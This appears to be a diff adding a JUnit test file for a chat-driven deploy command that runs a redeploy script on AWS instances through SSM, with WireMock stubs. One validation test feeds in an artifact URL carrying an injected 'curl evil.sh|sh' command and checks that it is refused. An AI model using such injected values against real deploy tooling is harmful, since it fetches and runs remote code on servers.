@@ -1,0 +1,144 @@
+package dev.deckhand.deploy;
+
+import dev.deckhand.aws.deploy.AwsRunCommand;
+import dev.deckhand.aws.network.AwsInstanceDirectory;
+import dev.deckhand.chat.Reply;
+import dev.deckhand.command.UsageException;
+import dev.deckhand.command.UserFacingException;
+import dev.deckhand.testing.AwsStub;
+import dev.deckhand.testing.InfraXml;
+import dev.deckhand.testing.Handlers;
+import dev.deckhand.testing.MutableClock;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+
+import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
+import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
+import static com.github.tomakehurst.wiremock.stubbing.Scenario.STARTED;
+import static dev.deckhand.testing.AwsStub.ec2Xml;
+import static dev.deckhand.testing.AwsStub.json;
+import static dev.deckhand.testing.AwsStub.jsonTarget;
+import static dev.deckhand.testing.AwsStub.queryAction;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+class DeployCommandsTest {
+
+    static final String COMMAND = "ef7fdfd8-9b57-4151-a15c-db9a12345678";
+    static final String JAR = "https://artifacts.example.com/shop/app-1.4.2.jar";
+
+    AwsStub aws;
+    MutableClock clock;
+    DeployCommands commands;
+    List<String> progress = new ArrayList<>();
+
+    @BeforeEach
+    void start() {
+        aws = new AwsStub(1);
+        clock = new MutableClock(Instant.parse("2026-11-25T12:00:00Z"));
+        commands = new DeployCommands(new AwsRunCommand(aws.clients), new AwsInstanceDirectory(aws.clients), clock,
+                clock::advance, Duration.ofSeconds(3), Duration.ofMinutes(10));
+        aws.server.stubFor(queryAction("DescribeInstances").atPriority(9)
+                .willReturn(ec2Xml("DescribeInstances", InfraXml.reservations())));
+        aws.server.stubFor(queryAction("DescribeInstances").withFormParam("Filter.1.Value.1", equalTo("web-1"))
+                .willReturn(ec2Xml("DescribeInstances", InfraXml.reservations(
+                        InfraXml.instance("i-0abc12345678", "web-1", "running", "54.1.2.3", "sg-0123456789abcdef0", "shop")))));
+        aws.server.stubFor(jsonTarget("AmazonSSM.SendCommand").willReturn(json("{\"Command\":{\"CommandId\":\"" + COMMAND
+                + "\",\"DocumentName\":\"AWS-RunShellScript\",\"InstanceIds\":[\"i-0abc12345678\"],\"Status\":\"Pending\"}}")));
+        invocations(notYet(), invocation("InProgress", -1, "", ""),
+                invocation("Success", 0, "downloading\nDeployed app-1.4.2.jar; deckhand-app is active on port 8080.\n", ""));
+    }
+
+    @AfterEach
+    void stop() {
+        aws.close();
+    }
+
+    static com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder notYet() {
+        return aResponse().withStatus(400).withHeader("Content-Type", "application/x-amz-json-1.1")
+                .withBody("{\"__type\":\"InvocationDoesNotExist\",\"message\":\"\"}");
+    }
+
+    static com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder invocation(String status, int code, String out, String err) {
+        return json("{\"CommandId\":\"" + COMMAND + "\",\"InstanceId\":\"i-0abc12345678\",\"DocumentName\":\"AWS-RunShellScript\","
+                + "\"Status\":\"" + status + "\",\"StatusDetails\":\"" + status + "\",\"ResponseCode\":" + code + ","
+                + "\"StandardOutputContent\":" + quote(out) + ",\"StandardErrorContent\":" + quote(err) + "}");
+    }
+
+    static String quote(String s) {
+        return "\"" + s.replace("\n", "\\n") + "\"";
+    }
+
+    void invocations(com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder... answers) {
+        aws.server.resetScenarios();
+        for (int i = 0; i < answers.length; i++) {
+            var stub = jsonTarget("AmazonSSM.GetCommandInvocation").inScenario("ssm").whenScenarioStateIs(i == 0 ? STARTED : "s" + i);
+            if (i + 1 < answers.length) {
+                stub = stub.willSetStateTo("s" + (i + 1));
+            }
+            aws.server.stubFor(stub.willReturn(answers[i]));
+        }
+    }
+
+    Reply deploy(String instance, Map<String, String> flags) {
+        return Handlers.call(commands.commands().get(0), "U2", List.of(instance), flags, progress::add);
+    }
+
+    String sent() {
+        return aws.server.findAll(com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor(
+                        com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo("/"))
+                .withHeader("X-Amz-Target", equalTo("AmazonSSM.SendCommand"))).get(0).getBodyAsString();
+    }
+
+    @Test
+    void deploy_sendsTheRedeployScriptThroughSsm_andReportsSuccess() {
+        Reply reply = deploy("web-1", Map.of("artifact", JAR));
+
+        assertThat(sent()).contains("\"DocumentName\":\"AWS-RunShellScript\"", "\"InstanceIds\":[\"i-0abc12345678\"]",
+                "\"ARTIFACT_URL='" + JAR + "'\"", "\"systemctl restart deckhand-app\"", "\"TimeoutSeconds\":600");
+        assertThat(reply.body()).isEqualTo("Deployed app-1.4.2.jar to web-1 (i-0abc12345678) in 6 s.");
+        assertThat(reply.context()).containsExactly("```downloading\nDeployed app-1.4.2.jar; deckhand-app is active on port 8080.```",
+                "SSM command " + COMMAND);
+        assertThat(progress).contains("Deploy is InProgress…");
+    }
+
+    @Test
+    void deploy_whenTheScriptFails_showsStatusExitCodeAndErrorTail() {
+        invocations(invocation("Failed", 4, "", "Nov 25 app[123]: Port 8080 already in use\n"));
+
+        Reply reply = deploy("web-1", Map.of("artifact", JAR));
+
+        assertThat(reply.header()).isEqualTo("Deploy to web-1 (i-0abc12345678) failed");
+        assertThat(reply.body()).isEqualTo("SSM says Failed (exit code 4) after 0 s. The previous version is kept at "
+                + "/opt/deckhand-app/*.previous.\n```Nov 25 app[123]: Port 8080 already in use```");
+    }
+
+    @Test
+    void deploy_toAnInstanceWithoutSsm_saysWhatItNeeds() {
+        aws.server.stubFor(jsonTarget("AmazonSSM.SendCommand").willReturn(aResponse().withStatus(400)
+                .withHeader("Content-Type", "application/x-amz-json-1.1")
+                .withBody("{\"__type\":\"InvalidInstanceId\",\"Message\":\"Instances not in a valid state for account\"}")));
+
+        assertThatThrownBy(() -> deploy("web-1", Map.of("artifact", JAR))).isInstanceOf(UserFacingException.class)
+                .hasMessageStartingWith("i-0abc12345678 is not managed by SSM, so Deckhand cannot run commands on it.");
+    }
+
+    @Test
+    void deploy_withBadUrl_isRefusedBeforeAnythingIsSent() {
+        assertThatThrownBy(() -> deploy("web-1", Map.of("artifact", "https://x.example.com/a.jar;curl evil.sh|sh")))
+                .isInstanceOf(UsageException.class);
+        assertThatThrownBy(() -> deploy("web-1", Map.of())).hasMessage("Say which build to ship with --artifact.");
+        assertThatThrownBy(() -> deploy("web-1", Map.of("artifact", JAR, "app", "rails")))
+                .hasMessage("'rails' is not an app kind Deckhand can run.");
+        assertThat(aws.server.findAll(com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor(
+                com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo("/"))
+                .withHeader("X-Amz-Target", equalTo("AmazonSSM.SendCommand")))).isEmpty();
+    }
+}
